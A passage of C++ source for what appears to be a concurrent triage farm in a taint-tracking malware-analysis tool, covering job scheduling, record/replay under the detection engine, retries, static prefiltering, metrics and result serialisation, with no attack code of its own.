  pr.findings = static_cast<u32>(e.findings().size());
  for (const auto& f : e.findings()) {
    if (f.whitelisted) ++pr.suppressed;
    pr.policies.push_back(f.policy);
  }
  std::sort(pr.policies.begin(), pr.policies.end());
  pr.policies.erase(std::unique(pr.policies.begin(), pr.policies.end()),
                    pr.policies.end());
  return pr;
}

}  // namespace

Farm::Farm(FarmConfig cfg) : cfg_(std::move(cfg)) {
  if (cfg_.workers == 0) {
    cfg_.workers = std::max(1u, std::thread::hardware_concurrency());
  }
}

void Farm::request_cancel() {
  cancel_.store(true, std::memory_order_relaxed);
  queue_.cancel();
}

Result<os::MachineConfig> Farm::machine_config() const {
  os::MachineConfig mcfg = cfg_.machine;
  if (!cfg_.snapshot) return mcfg;
  std::call_once(snap_once_, [this] {
    auto s = os::capture_snapshot(cfg_.machine.kernel);
    if (s.ok()) {
      snap_ = s.value();
    } else {
      snap_error_ = s.error().message;
    }
  });
  if (!snap_) return Err<os::MachineConfig>(snap_error_);
  mcfg.kernel.snapshot = snap_;
  return mcfg;
}

JobResult Farm::run_once(const JobSpec& spec, u32 attempt) const {
  JobResult r;
  r.id = spec.id;
  r.name = spec.name;
  r.category = spec.category;
  r.expect_flagged = spec.expect_flagged;

  auto fail = [&](std::string msg) {
    r.status = JobStatus::kError;
    r.error = std::move(msg);
    return r;
  };

  // Deterministic failure injection (tests only): attempts below the
  // threshold fail before any work, exercising the retry path identically
  // on every worker.
  if (attempt < spec.inject_failures) {
    return fail("injected failure (attempt " + std::to_string(attempt) + ")");
  }

  std::unique_ptr<attacks::Scenario> sc = spec.make ? spec.make() : nullptr;
  if (!sc) return fail("job has no scenario factory");

  auto mc = machine_config();
  if (!mc.ok()) return fail("snapshot: " + mc.error().message);
  const os::MachineConfig& mcfg = mc.value();

  u64 budget = spec.budget_override ? spec.budget_override : sc->budget();
  u64 timeout_ms = spec.timeout_ms ? spec.timeout_ms : cfg_.timeout_ms;
  Watchdog dog(cancel_,
               Clock::now() + std::chrono::milliseconds(timeout_ms),
               timeout_ms != 0);
  auto stopped = [&] {
    // The watchdog latched what fired first; a cancel arriving after a
    // deadline abort must not relabel the timeout.
    r.status = dog.cancelled() ? JobStatus::kCancelled : JobStatus::kTimeout;
    return r;
  };

  // Phase timers live in a run_once-local sink (the engine does not exist
  // during the record phase); null when metrics are off so no clock is read.
  obs::MetricSink timers;
  obs::MetricSink* tsink =
      cfg_.engine_opts.collect_metrics ? &timers : nullptr;

  // --- static analysis (zero-execution; never gates the dynamic run) ---
  // One analyzer pass serves three consumers: the prefilter stamps the
  // result fields, summary elision collects the per-image elide hints
  // into this job's engine options, and static pruning intersects the
  // per-image trigger masks. Extraction failure only surfaces as
  // sa_error under the prefilter — with elision/pruning alone the job
  // silently runs unhinted and unmasked, keeping the JSONL
  // byte-identical to --no-summary-elide / no --static-prune.
  core::Options eopts = cfg_.engine_opts;
  const bool want_hints = eopts.summary_elide;
  if (cfg_.static_prefilter || want_hints || cfg_.static_prune) {
    obs::ScopedTimer t(tsink, obs::Tmr::kStatic);
    auto extracted = attacks::extract_images(*sc, mcfg);
    if (!extracted.ok()) {
      if (cfg_.static_prefilter) r.sa_error = extracted.error().message;
    } else {
      std::vector<os::Image> images;
      images.reserve(extracted.value().size());
      for (auto& e : extracted.value()) images.push_back(std::move(e.image));
      sa::SaOptions sopts;
      sopts.metrics = tsink;
      sa::ProgramReport rep = sa::analyze_images(spec.name, images, sopts);
      if (cfg_.static_prefilter) {
        r.sa_analyzed = true;
        r.sa_flagged = rep.flagged();
        r.sa_images = rep.images;
        r.sa_blocks = rep.blocks;
        r.sa_findings = rep.findings;
        r.sa_risk = rep.risk;
        r.sa_rules = std::move(rep.rules);
      }
      if (want_hints) {
        for (const sa::ImageReport& ir : rep.per_image) {
          for (const sa::ElideHint& h : ir.elide_hints) {
            eopts.elide_hints[h.va].emplace_back(h.insns, h.hash);
          }
        }
      }
      if (cfg_.static_prune) {
        // sa::TriggerMask bit -> core::Trigger bit (the sa encoding skips
        // kTaintedFetch, which is never maskable).
        u8 m = 0;
        if (rep.trigger_mask & sa::kMaskTaintedLoad)
          m |= 1u << static_cast<u32>(core::Trigger::kTaintedLoad);
        if (rep.trigger_mask & sa::kMaskTaintedStore)
          m |= 1u << static_cast<u32>(core::Trigger::kTaintedStore);
        if (rep.trigger_mask & sa::kMaskExecPageWrite)
          m |= 1u << static_cast<u32>(core::Trigger::kExecPageWrite);
        if (rep.trigger_mask & sa::kMaskSyscallArg)
          m |= 1u << static_cast<u32>(core::Trigger::kSyscallArg);
        eopts.static_trigger_mask = m;
      }
    }
  }

  // --- record (live run, no analysis plugins) ---
  os::Machine rec(mcfg);
  if (auto b = rec.boot(); !b.ok()) return fail("boot: " + b.error().message);
  auto source = sc->make_source();
  if (source) rec.set_event_source(source.get());
  if (auto s = sc->setup(rec); !s.ok())
    return fail("setup: " + s.error().message);
  os::RunStats rec_stats;
  {
    obs::ScopedTimer t(tsink, obs::Tmr::kRecord);
    rec_stats = rec.run(budget, &dog);
  }
  if (rec_stats.aborted) return stopped();
  r.record_instructions = rec_stats.instructions;

  // --- replay under the FAROS engine ---
  // Async (default): a DiftPipeline attaches in place of the engine — the
  // interpreter thread produces the event trace and one consumer thread
  // per policy set replays it through its own engine (record-once/
  // analyze-many tees extra_policies onto the same trace). Sync
  // (--sync-dift): the historical inline engine, with extra policy sets
  // replayed sequentially below. Verdicts are byte-identical either way.
  // The pipeline's destructor finishes (drains + joins) on every exit
  // path, including the watchdog aborts; `rep` is declared first so the
  // consumers join before the machine they trace is torn down.
  os::Machine rep(mcfg);
  std::unique_ptr<core::FarosEngine> sync_engine;
  std::unique_ptr<core::DiftPipeline> pipe;
  if (cfg_.async_dift) {
    std::vector<core::Options> eoptss;
    eoptss.push_back(eopts);
    for (const PolicySet& ps : cfg_.extra_policies) {
      core::Options o = eopts;
      o.rules = ps.rules;
      o.collect_metrics = false;  // only the primary feeds the metrics row
      eoptss.push_back(std::move(o));
    }
    pipe = std::make_unique<core::DiftPipeline>(
        rep.kernel(), std::move(eoptss),
        cfg_.ring_capacity ? cfg_.ring_capacity
                           : vm::TraceRing::kDefaultCapacity);
    rep.attach_cpu_plugin(pipe.get());
    rep.add_monitor(pipe.get());
  } else {
    sync_engine = std::make_unique<core::FarosEngine>(rep.kernel(), eopts);
    rep.attach_cpu_plugin(sync_engine.get());
    rep.add_monitor(sync_engine.get());
  }
  if (auto b = rep.boot(); !b.ok())
    return fail("replay boot: " + b.error().message);
  if (auto s = sc->setup(rep); !s.ok())
    return fail("replay setup: " + s.error().message);
  rep.load_replay(rec.recording());
  os::RunStats rep_stats;
  {
    obs::ScopedTimer t(tsink, obs::Tmr::kReplay);
    rep_stats = rep.run(budget, &dog);
  }
  if (pipe) pipe->finish();
  if (rep_stats.aborted) return stopped();
  core::FarosEngine& engine = pipe ? pipe->engine(0) : *sync_engine;

  // Extra policy sets. Async already consumed them from the teed trace;
  // sync replays the same recording once per set (the result-equivalence
  // of the two paths is what the fan-out test checks).
  if (pipe) {
    for (size_t i = 0; i < cfg_.extra_policies.size(); ++i) {
      r.policy_runs.push_back(
          policy_run_of(cfg_.extra_policies[i].name, pipe->engine(i + 1)));
    }
  } else {
    for (const PolicySet& ps : cfg_.extra_policies) {
      os::Machine m2(mcfg);
      core::Options o = eopts;
      o.rules = ps.rules;
      o.collect_metrics = false;
      core::FarosEngine e2(m2.kernel(), o);
      m2.attach_cpu_plugin(&e2);
      m2.add_monitor(&e2);
      if (auto b = m2.boot(); !b.ok())
        return fail("policy replay boot: " + b.error().message);
      if (auto s = sc->setup(m2); !s.ok())
        return fail("policy replay setup: " + s.error().message);
      m2.load_replay(rec.recording());
      os::RunStats s2;
      {
        obs::ScopedTimer t(tsink, obs::Tmr::kReplay);
        s2 = m2.run(budget, &dog);
      }
      if (s2.aborted) return stopped();
      r.policy_runs.push_back(policy_run_of(ps.name, e2));
    }
  }

  r.status = JobStatus::kOk;
  r.metrics = pipe ? pipe->metrics_snapshot() : engine.metrics_snapshot();
  if (r.metrics.collected) {
    // The run_once-local sink carries the phase timers plus the static-
    // prefilter counters (the engine never touches those cells, so the
    // element-wise add cannot double-count).
    obs::MetricSnapshot local = timers.snapshot();
    r.metrics.timer_ns = local.timer_ns;
    for (u32 i = 0; i < obs::kCtrCount; ++i) {
      r.metrics.counters[i] += local.counters[i];
    }
    // The block cache lives in the replay interpreter (src/vm keeps no obs
    // dependency, so its stats are plain u64s surfaced here). Counting only
    // the replay machine keeps these deterministic per job.
    if (const vm::BlockCache* btc = rep.kernel().interp().block_cache()) {
      const vm::BlockCacheStats& bs = btc->stats();
      r.metrics.counters[static_cast<u32>(obs::Ctr::kBtTranslate)] +=
          bs.translated;
      r.metrics.counters[static_cast<u32>(obs::Ctr::kBtHit)] += bs.hits;
      r.metrics.counters[static_cast<u32>(obs::Ctr::kBtEvictSmc)] +=
          bs.evict_smc;
      r.metrics.counters[static_cast<u32>(obs::Ctr::kBtEvictCr3)] +=
          bs.evict_cr3;
    }
    // COW clone stats are plain u64s on PhysMem, like the block cache.
    // Both machines count: record and replay each boot one clone, and both
    // fault streams are pure functions of the spec (the replay retires the
    // identical instruction sequence), so the fold stays deterministic.
    for (os::Machine* m : {&rec, &rep}) {
      const vm::PhysMem::CowStats& cs = m->kernel().phys_mem().cow_stats();
      if (!cs.cow) continue;
      r.metrics.counters[static_cast<u32>(obs::Ctr::kSnapClone)] += 1;
      r.metrics.counters[static_cast<u32>(obs::Ctr::kCowFault)] +=
          cs.cow_faults;
      r.metrics.counters[static_cast<u32>(obs::Ctr::kSnapSharedPages)] +=
          cs.shared_frames;
    }
  }
  r.replay_instructions = rep_stats.instructions;
  r.all_exited = rep_stats.all_exited;
  r.budget_exhausted = !rep_stats.all_exited && !rep_stats.deadlocked &&
                       rep_stats.instructions >= budget;
  r.flagged = engine.flagged();
  r.findings = static_cast<u32>(engine.findings().size());
  for (const auto& f : engine.findings()) {
    if (f.whitelisted) ++r.suppressed;
    r.policies.push_back(f.policy);
  }
  std::sort(r.policies.begin(), r.policies.end());
  r.policies.erase(std::unique(r.policies.begin(), r.policies.end()),
                   r.policies.end());
  r.prov_lists = engine.store().size();
  r.tainted_bytes = engine.shadow().tainted_bytes();
  const core::RuleEngine& re = engine.rule_engine();
  r.rules.reserve(re.rule_count());
  for (u32 i = 0; i < re.rule_count(); ++i) {
    r.rules.push_back({re.rule_id(i), re.rule_stats(i).evals,
                       re.rule_stats(i).hits});
  }

  // --- provenance graph export (engine + replay kernel still alive) ---
  if (!cfg_.graph_out.empty()) {
    graph::ProvGraph pg = graph::build_graph(engine, rep.kernel());
    Bytes blob = graph::serialize(pg);
    std::error_code ec;
    std::filesystem::create_directories(cfg_.graph_out, ec);
    std::string path =
        cfg_.graph_out + "/" + sanitize_name(spec.name) + ".fpg";
    FILE* f = std::fopen(path.c_str(), "wb");
    if (!f) return fail("graph write: cannot open " + path);
    size_t written = std::fwrite(blob.data(), 1, blob.size(), f);
    std::fclose(f);
    if (written != blob.size()) return fail("graph write: short write " + path);
    r.graph_built = true;
    r.graph_nodes = static_cast<u32>(pg.nodes.size());
    r.graph_edges = static_cast<u32>(pg.edges.size());
    r.graph_bytes = blob.size();
  }
  return r;
}

JobResult Farm::run_job(const JobSpec& spec) const {
  auto t0 = Clock::now();
  JobResult r = run_once(spec, 0);
  // One bounded retry per configured attempt, only for harness errors —
  // timeouts would time out again and cancellations must stay cancelled.
  //
  // Retry hygiene (audited for --metrics determinism): every attempt is a
  // whole-cloth re-run — run_once builds a fresh JobResult, fresh record/
  // replay machines, a fresh engine and a fresh local timer sink, and the
  // assignment below discards the aborted attempt's object entirely. No
  // counter or timer from a failed attempt can leak into the result the
  // farm emits; only `retries` (set here) and wall_ms (deliberately wall-
  // clock, excluded from deterministic streams) reflect that a retry
  // happened. The injected-retry test pins this across worker counts.
  for (u32 attempt = 0;
       attempt < cfg_.retries && r.status == JobStatus::kError &&
       !cancel_.load(std::memory_order_relaxed);
       ++attempt) {
    r = run_once(spec, attempt + 1);
    r.retries = attempt + 1;
  }
  r.wall_ms =
      std::chrono::duration<double, std::milli>(Clock::now() - t0).count();
  return r;
}

void Farm::deliver(JobResult r) {
  std::lock_guard<std::mutex> lock(emit_mu_);
  // Defensive: a duplicate delivery for an already-emitted id would lodge
  // permanently at reorder_.begin() and wedge every later emission; a
  // duplicate for a pending id would silently double-count. Exactly one
  // result per id is the invariant — keep the first, drop the rest.
  if (r.id < next_emit_ || reorder_.count(r.id)) return;
  reorder_.emplace(r.id, std::move(r));
  while (!reorder_.empty() && reorder_.begin()->first == next_emit_) {
    JobResult next = std::move(reorder_.begin()->second);
    reorder_.erase(reorder_.begin());
    if (cfg_.on_result) cfg_.on_result(next);
    results_.push_back(std::move(next));
    ++next_emit_;
  }
}

void Farm::worker_main() {
  while (auto spec = queue_.pop()) {
    deliver(run_job(*spec));
  }
}

TriageReport Farm::run(std::vector<JobSpec> jobs) {
  {
    std::lock_guard<std::mutex> lock(emit_mu_);
    reorder_.clear();
    results_.clear();
    next_emit_ = 0;
  }

  auto t0 = Clock::now();
  for (u32 i = 0; i < jobs.size(); ++i) {
    jobs[i].id = i;
    queue_.push(std::move(jobs[i]));
  }
  queue_.close();

  u32 nworkers = std::min<u32>(cfg_.workers,
                               std::max<size_t>(jobs.size(), 1));
  std::vector<std::thread> pool;
  pool.reserve(nworkers);
  for (u32 i = 0; i < nworkers; ++i) {
    pool.emplace_back([this] { worker_main(); });
  }
  for (auto& t : pool) t.join();

  // Jobs never dispatched (cancellation) still get a result each.
  for (auto& spec : queue_.drain()) {
    JobResult r;
    r.id = spec.id;
    r.name = spec.name;
    r.category = spec.category;
    r.expect_flagged = spec.expect_flagged;
    r.status = JobStatus::kCancelled;
    deliver(std::move(r));
  }

  TriageReport report;
  {
    std::lock_guard<std::mutex> lock(emit_mu_);
    report.results = std::move(results_);
    results_.clear();
  }

  FarmMetrics& m = report.metrics;
  m.jobs = static_cast<u32>(report.results.size());
  m.wall_s = std::chrono::duration<double>(Clock::now() - t0).count();
  std::vector<double> latencies;
  for (const auto& r : report.results) {
    switch (r.status) {
      case JobStatus::kOk:
        ++m.ok;
        r.flagged ? ++m.flagged : ++m.clean;
        latencies.push_back(r.wall_ms);
        break;
      case JobStatus::kError: ++m.errors; break;
      case JobStatus::kTimeout: ++m.timeouts; break;
      case JobStatus::kCancelled: ++m.cancelled; break;
    }
    m.instructions += r.record_instructions + r.replay_instructions;
    if (r.sa_analyzed) {
      ++m.sa_analyzed;
      if (r.sa_flagged) ++m.sa_flagged;
    }
    if (r.metrics.collected) {
      m.static_s +=
          static_cast<double>(
              r.metrics.timer_ns[static_cast<u32>(obs::Tmr::kStatic)]) /
          1e9;
      m.record_s +=
          static_cast<double>(
              r.metrics.timer_ns[static_cast<u32>(obs::Tmr::kRecord)]) /
          1e9;
      m.replay_s +=
          static_cast<double>(
              r.metrics.timer_ns[static_cast<u32>(obs::Tmr::kReplay)]) /
          1e9;
    }
  }
  if (m.wall_s > 0) {
    m.jobs_per_s = m.ok / m.wall_s;
    m.insns_per_s = static_cast<double>(m.instructions) / m.wall_s;
  }
  std::sort(latencies.begin(), latencies.end());
  m.p50_ms = percentile(latencies, 0.50);
  m.p95_ms = percentile(latencies, 0.95);
  return report;
}

}  // namespace faros::farm
