// Farm — the concurrent corpus-triage service. Fans a catalogue of analysis
// jobs (src/attacks/corpus.h) across N worker threads; each worker owns a
// private os::Machine + FarosEngine per job, so workers share no mutable
// state and sharding is safe (scenarios are deterministic and record/replay
// is per-job).
//
// Determinism argument: a job's execution depends only on its JobSpec (the
// scenario factory, budget and engine options) — never on which worker ran
// it or what ran beside it. The per-job watchdog (os::RunGovernor) can only
// *abort* a run, not perturb it, and aborted runs are reported as kTimeout
// with their partial state discarded from the verdict. Results are
// delivered to the callback in ascending job-id order via a reorder
// buffer, so the JSONL stream is byte-identical for any worker count.
//
// Failure taxonomy per job: ok (clean or flagged), error (harness failure,
// retried once on the assumption it is transient), timeout (wall-clock
// deadline), cancelled (farm shut down first). A worker never dies with its
// job: every failure is caught, boxed into the JobResult, and the worker
// moves on — one pathological sample cannot poison the pool.
#pragma once

#include <atomic>
#include <functional>
#include <map>
#include <mutex>
#include <thread>
#include <vector>

#include "core/engine.h"
#include "farm/job.h"
#include "farm/queue.h"

namespace faros::os {
struct Snapshot;  // os/snapshot.h
}

namespace faros::farm {

/// One named ruleset for record-once/analyze-many fan-out
/// (FarmConfig::extra_policies; faros_triage --policies a.json,b.json).
struct PolicySet {
  std::string name;  // label carried into JobResult::PolicyRun
  std::vector<core::RuleSpec> rules;
};

struct FarmConfig {
  /// Worker threads; 0 = std::thread::hardware_concurrency() (min 1).
  u32 workers = 0;
  /// Default per-job wall-clock deadline (record + replay); 0 = no limit.
  u64 timeout_ms = 60'000;
  /// Retries for kError jobs (transient harness failures).
  u32 retries = 1;
  /// Run the zero-execution static analyzer (src/sa) over each job's
  /// extracted images before record/replay and stamp the JobResult with
  /// the static risk score / rule hits. Purely additive: dynamic verdicts
  /// are untouched.
  bool static_prefilter = false;
  /// Policy-aware static pruning: intersect the per-image sa trigger
  /// masks of each job and hand the result to the replay engine
  /// (core::Options::static_trigger_mask), so rule triggers statically
  /// proven unreachable skip their hot-path input computation. Detection
  /// and the per-rule eval counters are bit-identical on vs off (the
  /// prune-on/off CI gate pins this over the full corpus).
  bool static_prune = false;
  /// When non-empty: write one provenance-graph artifact per completed job
  /// to `<graph_out>/<job name>.fpg` (src/graph binary format; job names
  /// are sanitized to filesystem-safe characters). The graph is built from
  /// the replay engine + kernel at snapshot time and is a pure function of
  /// the JobSpec — byte-identical for any worker count. The directory is
  /// created on demand.
  std::string graph_out;
  /// Boot the guest once, freeze it, and run every job's record and replay
  /// machines as copy-on-write clones of the frozen image (os/snapshot.h).
  /// Purely a throughput lever: verdicts are byte-identical to cold-boot
  /// (the CI snapshot-equivalence gate pins this over the full corpus).
  /// The snapshot is captured lazily on the first job and shared read-only
  /// across workers.
  bool snapshot = true;
  /// Run taint propagation on decoupled consumer threads (the event-trace
  /// producer/consumer pipeline, core/pipeline.h) instead of inline in the
  /// interpreter. Verdicts, per-rule eval counters, provenance stats and
  /// graph artifacts are byte-identical either way — the async-vs-sync CI
  /// gate pins this over the full corpus. Off (--sync-dift) keeps the
  /// historical synchronous engine for A/B comparison.
  bool async_dift = true;
  /// Trace-ring slots per consumer (rounded up to a power of two by the
  /// ring; 0 = vm::TraceRing::kDefaultCapacity). Small rings exercise
  /// backpressure; the default trades ~1 MiB per consumer for slack.
  size_t ring_capacity = 0;
  /// Record-once/analyze-many: extra rule sets evaluated against the same
  /// replay. Async mode tees the one event trace to one consumer engine
  /// per set; sync mode replays the recording once per set. Results land
  /// in JobResult::policy_runs in this order.
  std::vector<PolicySet> extra_policies;
  /// Engine options applied to every job's replay.
  core::Options engine_opts;
  /// Per-machine config for record and replay.
  os::MachineConfig machine;
  /// Called once per job in ascending job-id order (never concurrently).
  std::function<void(const JobResult&)> on_result;
};

/// Farm-level metrics over one run(); timing fields are wall-clock.
struct FarmMetrics {
  u32 jobs = 0;
  u32 ok = 0;
  u32 flagged = 0;
  u32 clean = 0;
  u32 errors = 0;
  u32 timeouts = 0;
  u32 cancelled = 0;
  u64 instructions = 0;  // record + replay, all jobs
  double wall_s = 0;
  double jobs_per_s = 0;
  double insns_per_s = 0;
  double p50_ms = 0;  // per-job latency percentiles (completed jobs)
  double p95_ms = 0;
  double record_s = 0;  // summed per-job record-phase wall time
  double replay_s = 0;  // summed per-job replay-phase wall time
  u32 sa_analyzed = 0;        // jobs the static prefilter covered
  u32 sa_flagged = 0;         // of those, statically flagged
  double static_s = 0;        // summed static-prefilter wall time
};

struct TriageReport {
  std::vector<JobResult> results;  // ascending job id
  FarmMetrics metrics;
};

class Farm {
 public:
  explicit Farm(FarmConfig cfg = {});

  /// Runs every job to completion (or cancellation) and returns the
  /// aggregated report. Blocking; call request_cancel() from another
  /// thread to shut down early — the queue drains, in-flight jobs abort,
  /// and every job still gets a (cancelled) result. One run() per Farm
  /// instance (the queue is closed at the end of the run).
  TriageReport run(std::vector<JobSpec> jobs);

  /// Thread-safe; idempotent.
  void request_cancel();

  /// Runs a single job inline (no pool) — the farm's job runner is also
  /// the canonical serial path, so "serial vs farmed" comparisons exercise
  /// identical code.
  JobResult run_job(const JobSpec& spec) const;

  const FarmConfig& config() const { return cfg_; }

 private:
  void worker_main();
  /// One attempt at a job (`attempt` is 0 for the first run, >0 for
  /// retries — used only by the deterministic failure-injection hook).
  JobResult run_once(const JobSpec& spec, u32 attempt) const;
  /// Machine config for this run: cfg_.machine, plus the shared booted-
  /// guest snapshot when cloning is on (captured once, under snap_once_).
  Result<os::MachineConfig> machine_config() const;
  void deliver(JobResult r);

  FarmConfig cfg_;
  JobQueue queue_;
  std::atomic<bool> cancel_{false};

  // Lazily captured snapshot (shared read-only by every worker; mutable
  // because run_once is const and the first job triggers the capture).
  mutable std::once_flag snap_once_;
  mutable std::shared_ptr<const os::Snapshot> snap_;
  mutable std::string snap_error_;

  std::mutex emit_mu_;
  std::map<u32, JobResult> reorder_;  // completed, waiting for in-order emit
  u32 next_emit_ = 0;
  std::vector<JobResult> results_;
};

}  // namespace faros::farm
