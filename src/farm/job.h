// Job model for the corpus-triage farm: a JobSpec names one scenario run
// (via a factory, so retries and sharded workers each get a fresh
// deterministic instance) and a JobResult captures everything the results
// layer needs — verdict, findings, counters, and the failure taxonomy
// (ok / error / timeout / cancelled).
#pragma once

#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "attacks/scenarios.h"
#include "common/types.h"
#include "obs/obs.h"

namespace faros::farm {

using ScenarioFactory = std::function<std::unique_ptr<attacks::Scenario>()>;

struct JobSpec {
  u32 id = 0;            // assigned by the farm; the stable ordering key
  std::string name;      // unique within one submission
  std::string category;  // corpus category ("injection", "jit", ...)
  ScenarioFactory make;
  bool expect_flagged = false;  // ground truth, for TP/FP/TN/FN scoring

  u64 budget_override = 0;  // 0 = use Scenario::budget()
  u64 timeout_ms = 0;       // 0 = farm default

  /// Testing hook: run attempts numbered below this fail deterministically
  /// before any work ("injected failure"), so the retry path can be
  /// exercised identically on every worker. 0 (the default) injects
  /// nothing; 1 makes the first attempt fail and the first retry succeed.
  u32 inject_failures = 0;
};

/// What terminated the job. `kOk` covers both clean and flagged runs —
/// detection verdicts live in JobResult::flagged, not the status.
enum class JobStatus {
  kOk,         // record + replay completed within budget and deadline
  kError,      // harness error (boot/setup/record failure), after retries
  kTimeout,    // wall-clock deadline hit; partial run discarded
  kCancelled,  // farm shut down before/while the job ran
};

const char* job_status_name(JobStatus s);

struct JobResult {
  // --- identity (copied from the spec) ---
  u32 id = 0;
  std::string name;
  std::string category;
  bool expect_flagged = false;

  // --- verdict (deterministic given the spec) ---
  JobStatus status = JobStatus::kCancelled;
  bool flagged = false;
  std::vector<std::string> policies;  // sorted unique policy names that fired
  u32 findings = 0;                   // all findings, incl. whitelisted
  u32 suppressed = 0;                 // whitelisted findings
  u64 record_instructions = 0;
  u64 replay_instructions = 0;
  bool all_exited = false;       // every guest process terminated
  bool budget_exhausted = false; // hit the instruction budget still running
  size_t prov_lists = 0;
  u64 tainted_bytes = 0;
  u32 retries = 0;               // transient-error retries consumed
  std::string error;             // message for kError

  /// Record-once/analyze-many (FarmConfig::extra_policies): one extra
  /// verdict per additional policy set evaluated against the same replay.
  /// In async mode the event trace is teed to one consumer engine per set
  /// (a single execution); in sync mode each set replays the recording
  /// sequentially — the results are byte-identical, which the fan-out
  /// equivalence test pins. Order follows FarmConfig::extra_policies.
  struct PolicyRun {
    std::string name;
    bool flagged = false;
    u32 findings = 0;
    u32 suppressed = 0;
    std::vector<std::string> policies;  // sorted unique rule ids that fired
  };
  std::vector<PolicyRun> policy_runs;

  /// Per-rule evaluation/hit counts from the replay engine's RuleEngine,
  /// in engine rule order (deterministic given the spec + ruleset, and
  /// identical whether the rules came from the built-ins or a policy file
  /// — the property the CI byte-diff pins).
  struct RuleCount {
    std::string id;
    u64 evals = 0;
    u64 hits = 0;
  };
  std::vector<RuleCount> rules;

  // --- static prefilter (FarmConfig::static_prefilter; deterministic) ---
  // Filled by the zero-execution sa::analyze pass over the job's extracted
  // images. The static verdict is an analyst oracle next to the dynamic
  // one: it never gates or alters record/replay.
  bool sa_analyzed = false;
  bool sa_flagged = false;      // risk >= sa::kStaticRiskThreshold
  u32 sa_images = 0;            // SX32 images extracted and analyzed
  u32 sa_blocks = 0;            // basic blocks recovered
  u32 sa_findings = 0;          // lint findings across all images
  u32 sa_risk = 0;              // summed severity weights
  std::vector<std::string> sa_rules;  // sorted unique rule names that fired
  std::string sa_error;         // extraction failure (job still runs)

  // --- provenance graph export (FarmConfig::graph_out; deterministic) ---
  // Stamped when the farm wrote this job's .fpg graph artifact. The graph
  // is a pure function of the spec, so nodes/edges/bytes are too — they
  // ride in the deterministic JSONL next to prov_lists/tainted_bytes.
  bool graph_built = false;
  u32 graph_nodes = 0;
  u32 graph_edges = 0;
  u64 graph_bytes = 0;  // serialized .fpg size

  // --- observability (counters deterministic; timers wall-clock) ---
  // Engine counter snapshot for the replay (collected=false when the
  // engine ran without metrics or the job never reached the replay).
  // Counters are a pure function of the spec; timer_ns is not and stays
  // out of the deterministic JSONL, like wall_ms.
  obs::MetricSnapshot metrics;

  // --- timing (wall-clock; excluded from deterministic serialisation) ---
  double wall_ms = 0;

  /// "TP"/"FP"/"TN"/"FN" for completed jobs, "-" otherwise.
  const char* verdict() const {
    if (status != JobStatus::kOk) return "-";
    if (flagged) return expect_flagged ? "TP" : "FP";
    return expect_flagged ? "FN" : "TN";
  }

  /// Static-prefilter verdict against the same ground truth ("-" when the
  /// prefilter did not run). Independent of the dynamic status: the static
  /// pass needs no execution, so even a timed-out job has one.
  const char* static_verdict() const {
    if (!sa_analyzed) return "-";
    if (sa_flagged) return expect_flagged ? "TP" : "FP";
    return expect_flagged ? "FN" : "TN";
  }
};

inline const char* job_status_name(JobStatus s) {
  switch (s) {
    case JobStatus::kOk: return "ok";
    case JobStatus::kError: return "error";
    case JobStatus::kTimeout: return "timeout";
    case JobStatus::kCancelled: return "cancelled";
  }
  return "?";
}

}  // namespace faros::farm
