// Thread-safe FIFO work queue for the farm. Producers push JobSpecs, then
// close(); workers block in pop() until a job, close-on-empty, or cancel.
// cancel() leaves undispatched jobs in place — the farm drains them after
// the workers join and reports each as kCancelled, so every submitted job
// yields exactly one JobResult no matter how the run ends.
#pragma once

#include <condition_variable>
#include <deque>
#include <mutex>
#include <optional>
#include <vector>

#include "farm/job.h"

namespace faros::farm {

class JobQueue {
 public:
  void push(JobSpec spec) {
    {
      std::lock_guard<std::mutex> lock(mu_);
      jobs_.push_back(std::move(spec));
    }
    cv_.notify_one();
  }

  /// No more pushes; blocked pop() calls return nullopt once drained.
  void close() {
    {
      std::lock_guard<std::mutex> lock(mu_);
      closed_ = true;
    }
    cv_.notify_all();
  }

  /// Stop dispatching: pop() returns nullopt immediately, remaining jobs
  /// stay queued for drain().
  void cancel() {
    {
      std::lock_guard<std::mutex> lock(mu_);
      cancelled_ = true;
    }
    cv_.notify_all();
  }

  /// Next job, or nullopt when cancelled / closed-and-empty.
  std::optional<JobSpec> pop() {
    std::unique_lock<std::mutex> lock(mu_);
    cv_.wait(lock, [&] { return cancelled_ || closed_ || !jobs_.empty(); });
    if (cancelled_ || jobs_.empty()) return std::nullopt;
    JobSpec spec = std::move(jobs_.front());
    jobs_.pop_front();
    return spec;
  }

  /// Removes and returns everything still queued (post-join cleanup).
  std::vector<JobSpec> drain() {
    std::lock_guard<std::mutex> lock(mu_);
    std::vector<JobSpec> out(std::make_move_iterator(jobs_.begin()),
                             std::make_move_iterator(jobs_.end()));
    jobs_.clear();
    return out;
  }

  size_t size() const {
    std::lock_guard<std::mutex> lock(mu_);
    return jobs_.size();
  }

 private:
  mutable std::mutex mu_;
  std::condition_variable cv_;
  std::deque<JobSpec> jobs_;
  bool closed_ = false;
  bool cancelled_ = false;
};

}  // namespace faros::farm
