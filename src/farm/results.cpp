#include "farm/results.h"

#include <cstdio>

#include "common/json.h"

namespace faros::farm {

namespace {

std::string policies_json(const std::vector<std::string>& policies) {
  std::string out = "[";
  for (size_t i = 0; i < policies.size(); ++i) {
    if (i) out += ',';
    out += '"';
    out += json_escape(policies[i]);
    out += '"';
  }
  out += ']';
  return out;
}

std::string policy_runs_json(const std::vector<JobResult::PolicyRun>& runs) {
  std::string out = "[";
  for (size_t i = 0; i < runs.size(); ++i) {
    if (i) out += ',';
    JsonWriter w;
    w.field("name", runs[i].name)
        .field("flagged", runs[i].flagged)
        .field("findings", runs[i].findings)
        .field("suppressed", runs[i].suppressed)
        .raw_field("policies", policies_json(runs[i].policies));
    out += w.str();
  }
  out += ']';
  return out;
}

std::string rules_json(const std::vector<JobResult::RuleCount>& rules) {
  std::string out = "[";
  for (size_t i = 0; i < rules.size(); ++i) {
    if (i) out += ',';
    JsonWriter w;
    w.field("id", rules[i].id)
        .field("evals", rules[i].evals)
        .field("hits", rules[i].hits);
    out += w.str();
  }
  out += ']';
  return out;
}

}  // namespace

std::string job_jsonl(const JobResult& r) {
  JsonWriter w;
  w.field("type", "job")
      .field("id", r.id)
      .field("name", r.name)
      .field("category", r.category)
      .field("status", job_status_name(r.status))
      .field("flagged", r.flagged)
      .field("expected", r.expect_flagged)
      .field("verdict", r.verdict())
      .field("findings", r.findings)
      .field("suppressed", r.suppressed)
      .raw_field("policies", policies_json(r.policies))
      .field("record_insns", r.record_instructions)
      .field("replay_insns", r.replay_instructions)
      .field("all_exited", r.all_exited)
